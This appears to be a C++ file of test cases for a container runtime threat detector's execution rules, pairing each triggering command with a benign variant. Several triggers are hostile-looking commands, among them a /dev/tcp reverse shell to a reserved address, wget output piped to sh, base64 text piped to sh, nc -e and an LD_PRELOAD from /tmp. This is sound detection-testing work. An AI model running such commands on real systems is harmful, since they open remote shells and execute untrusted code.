// Cases of rules/30-execution.yaml.
#include "live/rules/cases.hpp"

namespace coff::live {

namespace {

constexpr Case kCases[] = {
    {"Program that is not in the image run", Place::kPlain,
     "cp /usr/bin/deed /tmp/fresh; /tmp/fresh", "cp /usr/bin/deed /tmp/other; /usr/bin/deed"},
    {"Program run from shared memory", Place::kPlain,
     "echo true > /dev/shm/job; /bin/sh /dev/shm/job",
     "echo true > /dev/shm/text; /bin/cat /dev/shm/text"},
    {"Program run from anonymous memory", Place::kPlain, "deed memfd nothing", "deed nothing"},
    {"Deleted program run", Place::kPlain, "deed deleted /tmp/gone",
     "cp /usr/bin/deed /tmp/going; /tmp/going; rm /tmp/going"},
    {"Hidden program run in a container", Place::kPlain,
     "cp /usr/bin/deed /tmp/.hidden; /tmp/.hidden", "cp /usr/bin/deed /tmp/shown; /tmp/shown"},
    {"File made executable in a temporary folder", Place::kPlain,
     "echo > /tmp/tool; chmod 755 /tmp/tool",
     "echo > /tmp/text; chmod 640 /tmp/text; mkdir -p /srv; cp /bin/true /srv; chmod 755 "
     "/srv/true"},
    {"Shell started by a network service", Place::kPlain, "nginx under /bin/sh -c true",
     "deed under /bin/sh -c true; nginx under /bin/true"},
    {"Shell started by a Java program", Place::kPlain, "java under /bin/sh -c true",
     "java under /bin/true"},
    {"Standard streams tied to a network connection", Place::kPlain, "deed stdio 2 127.0.0.1",
     "deed stdio 9 127.0.0.1"},
    {"Standard input read from a network connection", Place::kPrivileged,
     "ip addr add 10.77.77.77/32 dev lo; deed stdio 0 10.77.77.77", "deed stdio 0 127.0.0.1"},
    {"Network tool told to run a program", Place::kPlain, "/bin/nc 127.0.0.1 9 -e /bin/true",
     "/bin/nc 127.0.0.1 9 < /dev/null"},
    {"Command line of a reverse shell", Place::kPlain,
     "/bin/sh -c ': sh -i >& /dev/tcp/203.0.113.9/9 0>&1'",
     "/bin/sh -c ': /dev/tcp/203.0.113.9/9'"},
    {"Decoded text given to a shell", Place::kPlain, "/bin/sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
     "/bin/sh -c 'echo dHJ1ZQo= | base64 -d'"},
    {"Download given to a shell", Place::kPlain,
     "/bin/sh -c 'wget -q -O - http://127.0.0.1:9/ | sh'",
     "/bin/sh -c 'wget -q -O - http://127.0.0.1:9/'"},
    {"Miner started", Place::kPlain, "xmrig", "deed nothing"},
    {"Package manager run in a container", Place::kPlain, "apk add tool", "apk info tool"},
    {"Compiler run in a container", Place::kPlain, "gcc a.c", "make under /usr/bin/gcc a.c"},
    {"Interactive shell in a container", Place::kEngine,
     "$D run -d --name $C --network none $IMAGE sleep 100; $D exec -t $C sh -c true; "
     "$D rm -f $C",
     "$D run -d --name $C --network none $IMAGE sleep 100; $D exec $C sh -c true; $D rm -f $C"},
    {"Engine or cluster client run in a container", Place::kPlain, "kubectl get pods",
     "deed get pods"},
    {"Escape or enumeration tool run", Place::kPlain, "linpeas.sh", "deed linpeaches"},
    {"Interactive reconnaissance in a container", Place::kEngine,
     "$D run --rm -t --name $C --network none $IMAGE whoami",
     "$D run --rm --name $C --network none $IMAGE whoami"},
    {"Library injected from a temporary folder", Place::kPlain, "LD_PRELOAD=/tmp/a.so deed nothing",
     "LD_PRELOAD=/usr/lib/a.so deed nothing"},
};

}  // namespace

std::span<const Case> execution_cases() { return kCases; }

}  // namespace coff::live
